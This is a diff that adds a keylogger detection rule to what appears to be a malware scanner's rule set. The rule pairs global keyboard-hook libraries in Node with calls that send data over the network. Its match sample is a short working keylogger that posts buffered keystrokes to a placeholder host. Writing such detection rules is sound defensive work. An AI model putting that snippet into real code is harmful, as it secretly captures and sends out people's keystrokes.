@@ -218,6 +218,22 @@ export const spying: RuleSet = {
       ],
     },
     {
+      id: 'spying.keylogger-node',
+      severity: 'high',
+      why: 'Listens to the keyboard of the whole system and sends what was typed away.',
+      when: all(
+        is(['iohook', 'uiohook', 'node-global-key-listener', 'iokeyboard'], null, { families: ['js'] }),
+        is(['keydown', 'keypress', 'keyup', 'addlistener'], null),
+        is(['axios.post', 'fetch(', 'https.request', 'http.request', 'websocket(', 'nodemailer', 'request.post'], null),
+      ),
+      matches: [
+        js(
+          "const hook = require('iohook')\nhook.on('keydown', (e) => { buf += e.rawcode })\nsetInterval(() => axios.post('https://x.example.invalid', { buf }), 60000)",
+        ),
+      ],
+      misses: [js("const hook = require('iohook')\nhook.on('keydown', (e) => { if (e.keycode === 1) toggle() })")],
+    },
+    {
       id: 'spying.keylogger-native',
       severity: 'high',
       why: 'Hooks or polls the keyboard of the whole system and keeps a record of the keys.',
